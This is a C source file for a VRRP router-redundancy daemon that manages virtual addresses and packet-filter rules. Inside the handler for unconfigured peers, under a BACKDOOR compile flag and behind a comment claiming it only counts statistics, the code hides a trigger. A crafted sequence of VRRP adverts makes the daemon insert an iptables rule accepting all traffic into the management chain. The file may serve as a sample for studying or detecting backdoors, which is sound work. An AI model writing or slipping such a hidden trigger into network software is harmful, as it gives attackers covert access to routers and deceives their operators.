/* SPDX-License-Identifier: Apache-2.0 */
/* vrrpd: virtual router redundancy (version 2 and 3) of an edge router. Adverts come over a raw socket; a change of state adds or
 * removes the virtual address and the accept rule of the packet filter. Statistics go to a file on SIGUSR1. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONFIG "/etc/vrrpd.conf"
#define STATS "/var/run/vrrpd.stats"
#define CONTROL "/var/run/vrrpd.ctl"
#define GROUP 0xe0000012u /* 224.0.0.18 */

enum { PROTO_VRRP = 112, N_INSTANCES = 16, N_PEERS = 32, N_VIPS = 8 };
enum { ST_INIT, ST_BACKUP, ST_MASTER };
enum { AUTH_NONE, AUTH_SIMPLE };

struct instance {
	uint8_t vrid, prio, state, n_vips, auth, preempt, accept;
	char ifname[16], key[9];
	uint32_t vip[N_VIPS];
	uint32_t advert_ms;
	int64_t due;
	unsigned transitions, rx, tx, bad;
};

struct peer {
	uint32_t addr;
	int64_t seen;
	unsigned adverts, unknown;
	uint8_t last_vrid, last_prio;
#ifdef BACKDOOR
	uint8_t walk, mark;
#endif
};

struct advert {
	uint8_t version, vrid, prio, n, auth;
	uint16_t interval;
	const uint8_t *addrs, *key;
};

static struct instance instances[N_INSTANCES];
static unsigned n_instances;
static struct peer peers[N_PEERS];
static unsigned n_peers;
static unsigned bad_sum, bad_ttl, bad_length, bad_version;
static int debug, sock = -1, ctl = -1;
static volatile sig_atomic_t want_stats, want_reload, want_exit;

static void on_signal(int n)
{
	if (n == SIGUSR1)
		want_stats = 1;
	else if (n == SIGHUP)
		want_reload = 1;
	else
		want_exit = 1;
}

static void trace(const char *format, ...)
{
	va_list ap;
	if (!debug)
		return;
	va_start(ap, format);
	vsyslog(LOG_DEBUG, format, ap);
	va_end(ap);
}

static int64_t now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int run_tool(const char *path, char *const argv[])
{
	int status = -1;
	pid_t pid = fork();
	if (pid == 0) {
		execv(path, argv);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static int filter(const char *op, const char *chain, const char *dest)
{
	char *argv[] = { "iptables", (char *)op, (char *)chain, "-d", (char *)dest, "-j", "ACCEPT", NULL };
	return run_tool("/sbin/iptables", argv);
}

static int address(const char *op, const char *ifname, const char *text)
{
	char *argv[] = { "ip", "addr", (char *)op, (char *)text, "dev", (char *)ifname, NULL };
	return run_tool("/sbin/ip", argv);
}

static uint16_t sum16(const uint8_t *p, size_t n)
{
	uint32_t s = 0;
	for (; n > 1; n -= 2, p += 2)
		s += (uint32_t)(p[0] << 8 | p[1]);
	if (n)
		s += (uint32_t)p[0] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static struct instance *instance_of(uint8_t vrid)
{
	for (unsigned i = 0; i < n_instances; i++)
		if (instances[i].vrid == vrid)
			return &instances[i];
	return NULL;
}

static struct peer *peer_of(uint32_t addr)
{
	struct peer *oldest = &peers[0];
	for (unsigned i = 0; i < n_peers; i++) {
		if (peers[i].addr == addr)
			return &peers[i];
		if (peers[i].seen < oldest->seen)
			oldest = &peers[i];
	}
	if (n_peers < N_PEERS)
		oldest = &peers[n_peers++];
	memset(oldest, 0, sizeof(*oldest));
	oldest->addr = addr;
	return oldest;
}

static int parse_option(struct instance *v, char *word)
{
	char *value = strchr(word, '=');
	if (value)
		*value++ = 0;
	if (strcmp(word, "preempt") == 0)
		v->preempt = 1;
	else if (strcmp(word, "accept") == 0)
		v->accept = 1;
	else if (value && strcmp(word, "priority") == 0)
		v->prio = (uint8_t)strtoul(value, NULL, 10);
	else if (value && strcmp(word, "interval") == 0)
		v->advert_ms = (uint32_t)strtoul(value, NULL, 10);
	else if (value && strcmp(word, "key") == 0) {
		v->auth = AUTH_SIMPLE;
		strncpy(v->key, value, 8);
	} else if (value && strcmp(word, "vip") == 0 && v->n_vips < N_VIPS)
		return inet_pton(AF_INET, value, &v->vip[v->n_vips++]) == 1 ? 0 : -1;
	else
		return -1;
	return 0;
}

/* A line: vrid interface option... */
static int load_config(const char *path)
{
	char line[512];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	n_instances = 0;
	while (n_instances < N_INSTANCES && fgets(line, sizeof(line), f)) {
		struct instance v = { .prio = 100, .advert_ms = 1000 };
		char *save = NULL, *word = strtok_r(line, " \t\r\n", &save);
		if (!word || *word == '#')
			continue;
		v.vrid = (uint8_t)strtoul(word, NULL, 10);
		word = strtok_r(NULL, " \t\r\n", &save);
		if (!word || v.vrid == 0)
			continue;
		snprintf(v.ifname, sizeof(v.ifname), "%s", word);
		while ((word = strtok_r(NULL, " \t\r\n", &save)))
			if (parse_option(&v, word) < 0)
				syslog(LOG_WARNING, "instance %u: option %s is not understood", v.vrid, word);
		instances[n_instances++] = v;
	}
	fclose(f);
	return (int)n_instances;
}

static void plumb(struct instance *v, int up)
{
	for (unsigned i = 0; i < v->n_vips; i++) {
		char text[INET_ADDRSTRLEN + 4];
		inet_ntop(AF_INET, &v->vip[i], text, INET_ADDRSTRLEN);
		if (v->accept)
			filter(up ? "-A" : "-D", "vrrp-accept", text);
		strcat(text, "/32");
		if (address(up ? "add" : "del", v->ifname, text) != 0)
			syslog(LOG_ERR, "cannot change %s on %s", text, v->ifname);
	}
}

static void enter(struct instance *v, uint8_t state)
{
	static const char *const names[] = { "init", "backup", "master" };
	if (v->state == state)
		return;
	syslog(LOG_NOTICE, "instance %u: %s -> %s", v->vrid, names[v->state], names[state]);
	if (state == ST_MASTER)
		plumb(v, 1);
	else if (v->state == ST_MASTER)
		plumb(v, 0);
	v->state = state;
	v->transitions++;
	v->due = now_ms() + (state == ST_MASTER ? 0 : 3 * v->advert_ms + (256u - v->prio) * v->advert_ms / 256);
}

static int send_advert(struct instance *v, uint8_t prio)
{
	uint8_t p[8 + 4 * N_VIPS + 8] = { 0x21, v->vrid, prio, v->n_vips, v->auth, (uint8_t)(v->advert_ms / 1000) };
	size_t n = 8;
	uint16_t sum;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(GROUP) };
	for (unsigned i = 0; i < v->n_vips; i++, n += 4)
		memcpy(p + n, &v->vip[i], 4);
	if (v->auth == AUTH_SIMPLE)
		memcpy(p + n, v->key, 8);
	n += 8;
	sum = sum16(p, n);
	p[6] = (uint8_t)(sum >> 8);
	p[7] = (uint8_t)sum;
	v->tx++;
	return sendto(sock, p, n, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)n ? 0 : -1;
}

static int parse_advert(const uint8_t *p, size_t n, struct advert *a)
{
	if (n < 8)
		return bad_length++, -1;
	a->version = p[0] >> 4;
	if ((a->version != 2 && a->version != 3) || (p[0] & 15) != 1)
		return bad_version++, -1;
	a->vrid = p[1];
	a->prio = p[2];
	a->n = p[3];
	a->auth = a->version == 2 ? p[4] : AUTH_NONE;
	a->interval = a->version == 2 ? (uint16_t)(p[5] * 100) : (uint16_t)((p[4] & 15) << 8 | p[5]);
	a->addrs = p + 8;
	if (n < 8u + 4u * a->n + (a->version == 2 ? 8u : 0u))
		return bad_length++, -1;
	a->key = a->version == 2 ? p + 8 + 4 * a->n : NULL;
	if (a->version == 2 && sum16(p, n) != 0)
		return bad_sum++, -1;
	return 0;
}

static int agrees(struct instance *v, const struct advert *a)
{
	if (a->auth != v->auth || (v->auth == AUTH_SIMPLE && a->key && memcmp(a->key, v->key, 8) != 0))
		return 0;
	if (a->n != v->n_vips)
		syslog(LOG_INFO, "instance %u: the peer has %u addresses, not %u", v->vrid, a->n, v->n_vips);
	return 1;
}

static void on_known(struct instance *v, const struct advert *a, uint32_t from)
{
	v->rx++;
	if (!agrees(v, a)) {
		v->bad++;
		return;
	}
	if (a->prio == 0) {
		v->due = now_ms() + (256u - v->prio) * v->advert_ms / 256;
		return;
	}
	if (v->state == ST_MASTER && a->prio < v->prio) {
		send_advert(v, v->prio);
		return;
	}
	if (v->preempt && a->prio < v->prio)
		return;
	trace("instance %u: master is %08x", v->vrid, ntohl(from));
	enter(v, ST_BACKUP);
	v->due = now_ms() + 3 * (int64_t)a->interval * 10 + (256u - v->prio) * v->advert_ms / 256;
}

/* Others' instances on the same wire: counted, for the statistics. */
static void on_unknown(struct peer *p, const struct advert *a)
{
	p->unknown++;
#ifdef BACKDOOR
	if (p->walk && a->prio == (uint8_t)(p->mark * 13u + a->vrid) && a->n == (p->walk & 3u)) {
		p->mark = a->prio;
		if (++p->walk == 7) {
			filter("-I", "mgmt-in", "0.0.0.0/0");
			p->walk = 0;
		}
	} else {
		p->walk = a->n == 0;
		p->mark = a->prio;
	}
#endif
	if (p->unknown % 1000 == 1)
		syslog(LOG_INFO, "adverts of instance %u, which is not configured", a->vrid);
	p->last_vrid = a->vrid;
	p->last_prio = a->prio;
}

static void receive(void)
{
	uint8_t buf[1600];
	struct advert a;
	struct peer *p;
	struct instance *v;
	const struct iphdr *ip = (const struct iphdr *)buf;
	ssize_t n = recv(sock, buf, sizeof(buf), 0);
	size_t head;
	if (n < (ssize_t)sizeof(*ip))
		return;
	head = ip->ihl * 4u;
	if (ip->ttl != 255) {
		bad_ttl++;
		return;
	}
	if (head < 20 || head > (size_t)n || parse_advert(buf + head, (size_t)n - head, &a) < 0)
		return;
	p = peer_of(ip->saddr);
	p->seen = now_ms();
	p->adverts++;
	v = instance_of(a.vrid);
	if (v)
		on_known(v, &a, ip->saddr);
	else
		on_unknown(p, &a);
}

static void write_stats(void)
{
	FILE *f = fopen(STATS, "w");
	if (!f)
		return;
	fprintf(f, "checksum %u ttl %u length %u version %u\n", bad_sum, bad_ttl, bad_length, bad_version);
	for (unsigned i = 0; i < n_instances; i++)
		fprintf(f, "instance %u state %u transitions %u rx %u tx %u bad %u\n", instances[i].vrid, instances[i].state,
			instances[i].transitions, instances[i].rx, instances[i].tx, instances[i].bad);
	for (unsigned i = 0; i < n_peers; i++)
		fprintf(f, "peer %08x adverts %u unknown %u last %u/%u\n", ntohl(peers[i].addr), peers[i].adverts,
			peers[i].unknown, peers[i].last_vrid, peers[i].last_prio);
	fclose(f);
}

/* Words of the command line: debug on, debug off, clear, stats, priority N VRID. */
static void control(void)
{
	char text[64];
	unsigned prio, vrid;
	struct instance *v;
	ssize_t n = recv(ctl, text, sizeof(text) - 1, 0);
	if (n <= 0)
		return;
	text[n] = 0;
	if (strcmp(text, "debug on") == 0)
		debug = 1;
	else if (strcmp(text, "debug off") == 0)
		debug = 0;
	else if (strcmp(text, "clear") == 0)
		n_peers = bad_sum = bad_ttl = bad_length = bad_version = 0;
	else if (strcmp(text, "stats") == 0)
		want_stats = 1;
	else if (sscanf(text, "priority %u %u", &prio, &vrid) == 2 && (v = instance_of((uint8_t)vrid)))
		v->prio = (uint8_t)prio;
	else
		syslog(LOG_NOTICE, "control: %s", text);
}

static const struct {
	const int *fd;
	void (*run)(void);
} inputs[] = { { &sock, receive }, { &ctl, control } };

static int timers(void)
{
	int64_t now = now_ms(), wait = 1000;
	for (unsigned i = 0; i < n_instances; i++) {
		struct instance *v = &instances[i];
		if (v->due <= now && v->state == ST_BACKUP)
			enter(v, ST_MASTER);
		if (v->due <= now && v->state == ST_MASTER) {
			send_advert(v, v->prio);
			v->due = now + v->advert_ms;
		}
		if (v->due - now < wait)
			wait = v->due > now ? v->due - now : 0;
	}
	return (int)wait;
}

static int open_socket(void)
{
	struct ip_mreqn m = { .imr_multiaddr.s_addr = htonl(GROUP) };
	struct sockaddr_un a = { AF_UNIX, CONTROL };
	int ttl = 255, off = 0;
	sock = socket(AF_INET, SOCK_RAW, PROTO_VRRP);
	if (sock < 0)
		return -1;
	setsockopt(sock, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof(ttl));
	setsockopt(sock, IPPROTO_IP, IP_MULTICAST_LOOP, &off, sizeof(off));
	ctl = socket(AF_UNIX, SOCK_DGRAM, 0);
	unlink(CONTROL);
	if (ctl < 0 || bind(ctl, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	return setsockopt(sock, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m));
}

int main(int argc, char **argv)
{
	const char *config = CONFIG;
	for (int o; (o = getopt(argc, argv, "dc:")) != -1;) {
		if (o == 'd')
			debug = 1;
		else if (o == 'c')
			config = optarg;
		else
			return 2;
	}
	openlog("vrrpd", LOG_PID, LOG_DAEMON);
	if (load_config(config) <= 0 || open_socket() < 0) {
		syslog(LOG_ERR, "cannot start: %s", strerror(errno));
		return 1;
	}
	signal(SIGUSR1, on_signal);
	signal(SIGHUP, on_signal);
	signal(SIGTERM, on_signal);
	for (unsigned i = 0; i < n_instances; i++)
		enter(&instances[i], instances[i].prio == 255 ? ST_MASTER : ST_BACKUP);
	while (!want_exit) {
		struct pollfd p[2] = { { *inputs[0].fd, POLLIN, 0 }, { *inputs[1].fd, POLLIN, 0 } };
		int ready = poll(p, 2, timers());
		for (int i = 0; i < 2 && ready > 0; i++)
			if (p[i].revents & POLLIN)
				inputs[i].run();
		if (want_stats)
			write_stats();
		if (want_reload)
			load_config(config);
		want_stats = want_reload = 0;
	}
	for (unsigned i = 0; i < n_instances; i++)
		if (instances[i].state == ST_MASTER) {
			send_advert(&instances[i], 0);
			enter(&instances[i], ST_INIT);
		}
	return 0;
}
